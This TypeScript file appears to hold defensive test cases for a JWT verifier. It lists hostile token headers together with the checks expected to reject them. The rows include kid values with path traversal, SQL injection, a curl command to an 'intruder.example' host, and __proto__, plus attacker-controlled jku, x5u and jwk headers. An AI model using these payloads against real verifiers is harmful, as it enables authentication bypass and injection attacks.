import { compact } from '../../signing.ts'
import type { Defence } from '../defences.ts'
import { attackerKey, keys, ownKeys } from '../issuers.ts'
import { tokens } from '../row.ts'

/** What a header may not say, however good the signature; and what its `kid` cannot do. */

const unknown: Defence[] = ['fitting keys only', 'the signature, by jose']
const misnamed = (kid: unknown) => ({ kid, alg: 'ES256' })

export const headerRows = [
  ...tokens('key ids', [
    [
      'a path to an empty file',
      unknown,
      'unknown_key',
      (world) => world.token({}, misnamed('../../../../dev/null'), attackerKey),
    ],
    [
      'SQL',
      unknown,
      'unknown_key',
      (world) => world.token({}, misnamed("x' UNION SELECT 'INTRUDER';--"), attackerKey),
    ],
    [
      'a shell command',
      unknown,
      'unknown_key',
      (world) => world.token({}, misnamed('es; curl https://intruder.example/INTRUDER'), attackerKey),
    ],
    [
      'an address',
      unknown,
      'unknown_key',
      (world) => world.token({}, misnamed(`${world.attacker.address}/jwks`), attackerKey),
    ],
    [
      'what every object inherits',
      unknown,
      'unknown_key',
      (world) => world.token({}, misnamed('__proto__'), attackerKey),
    ],
    [
      'a good one in capitals',
      unknown,
      'unknown_key',
      (world) => world.token({}, misnamed('ES'), attackerKey),
    ],
    [
      'a good one with a NUL',
      unknown,
      'unknown_key',
      (world) => world.token({}, misnamed('es\u0000'), attackerKey),
    ],
    ['an empty text', unknown, 'unknown_key', (world) => world.token({}, misnamed(''), attackerKey)],
    [
      'a number, where a key has it as text',
      ['key ids are short texts', 'fitting keys only'],
      'key_id',
      (world) => world.token({}, misnamed(7), keys.numbered),
    ],
    [
      'a list of a good one',
      ['key ids are short texts', 'fitting keys only'],
      'key_id',
      (world) => world.token({}, misnamed(['es'])),
    ],
    [
      'null',
      ['key ids are short texts', 'fitting keys only'],
      'key_id',
      (world) => world.token({}, misnamed(null), keys.es),
    ],
    [
      'a very long one, though a key has it',
      ['key ids are short texts'],
      'key_id',
      (world) => world.token({}, {}, keys.longNamed),
    ],
    [
      'the number of the first key',
      unknown,
      'unknown_key',
      (world) => world.token({}, misnamed('0'), attackerKey),
    ],
  ]),

  ...tokens('keys in the header', [
    [
      'a public key',
      ['no keys or extensions in the header'],
      'header',
      (world) => world.token({}, { jwk: attackerKey.jwk }),
    ],
    [
      'a public key, signed with it',
      ['no keys or extensions in the header', 'the signature, by jose'],
      'header',
      (world) => world.token({}, { jwk: attackerKey.jwk }, attackerKey),
    ],
    [
      'an address of keys',
      ['no keys or extensions in the header'],
      'header',
      (world) => world.token({}, { jku: `${world.attacker.address}/jwks` }),
    ],
    [
      'an address of keys, signed with one of them',
      ['no keys or extensions in the header', 'the signature, by jose'],
      'header',
      (world) => world.token({}, { jku: `${world.attacker.address}/jwks` }, attackerKey),
    ],
    [
      'the issuer’s own address of keys',
      ['no keys or extensions in the header'],
      'header',
      (world) => world.token({}, { jku: `${world.address.main}/jwks` }),
    ],
    [
      'an address of certificates',
      ['no keys or extensions in the header'],
      'header',
      (world) => world.token({}, { x5u: `${world.attacker.address}/cert.pem` }),
    ],
    [
      'a certificate',
      ['no keys or extensions in the header'],
      'header',
      (world) => world.token({}, { x5c: ['SU5UUlVERVI='] }),
    ],
    [
      'no certificate at all',
      ['no keys or extensions in the header'],
      'header',
      (world) => world.token({}, { x5c: [] }),
    ],
    [
      'a key that is null',
      ['no keys or extensions in the header'],
      'header',
      (world) => world.token({}, { jwk: null }),
    ],
  ]),

  ...tokens('extensions', [
    [
      'an unencoded payload (RFC 7797)',
      ['no keys or extensions in the header'],
      'header',
      (world) => world.token({}, { b64: false, crit: ['b64'] }),
    ],
    [
      'an unencoded payload that is not critical',
      ['no keys or extensions in the header'],
      'header',
      (world) => world.token({}, { b64: false }),
    ],
    [
      'an encoded payload, said explicitly',
      ['no keys or extensions in the header'],
      'header',
      (world) => world.token({}, { b64: true, crit: ['b64'] }),
    ],
    [
      'a critical extension that nobody knows',
      ['no keys or extensions in the header', 'the signature, by jose'],
      'header',
      (world) => world.token({}, { crit: ['INTRUDER'], INTRUDER: true }),
    ],
    [
      'a critical parameter that is none',
      ['no keys or extensions in the header', 'the signature, by jose'],
      'header',
      (world) => world.token({}, { crit: ['alg'] }),
    ],
    [
      'an empty list of critical extensions',
      ['no keys or extensions in the header', 'the signature, by jose'],
      'header',
      (world) => world.token({}, { crit: [] }),
    ],
    [
      'critical extensions as a text',
      ['no keys or extensions in the header', 'the signature, by jose'],
      'header',
      (world) => world.token({}, { crit: 'b64', b64: true }),
    ],
  ]),

  ...tokens('kinds of token', [
    [
      'a logout token',
      ['token types'],
      'type',
      (world) => world.token({ events: {} }, { typ: 'logout+jwt' }),
    ],
    [
      'a security event',
      ['token types'],
      'type',
      (world) => world.token({}, { typ: 'application/secevent+jwt' }),
    ],
    [
      'a proof of possession',
      ['token types'],
      'type',
      (world) => world.token({ htm: 'POST' }, { typ: 'dpop+jwt' }),
    ],
    [
      'an authorization request',
      ['token types'],
      'type',
      (world) => world.token({}, { typ: 'oauth-authz-req+jwt' }),
    ],
    ['a type that is a list', ['token types'], 'type', (world) => world.token({}, { typ: ['JWT'] })],
    [
      'an id token where an access token is asked for',
      ['token types'],
      'type',
      (world) => world.tokenFrom('typed', { at_hash: 'x' }, { typ: 'JWT' }),
    ],
    [
      'a token without a type where one is asked for',
      ['token types'],
      'type',
      (world) => world.tokenFrom('typed'),
    ],
    [
      'an access token with a suffix',
      ['token types'],
      'type',
      (world) => compact({ typ: 'at+jwt;v=1' }, world.claims({}, 'typed'), ownKeys.typed),
    ],
    [
      'a type that looks alike',
      ['token types'],
      'type',
      (world) => world.tokenFrom('typed', {}, { typ: 'аt+jwt' }),
    ],
  ]),
]
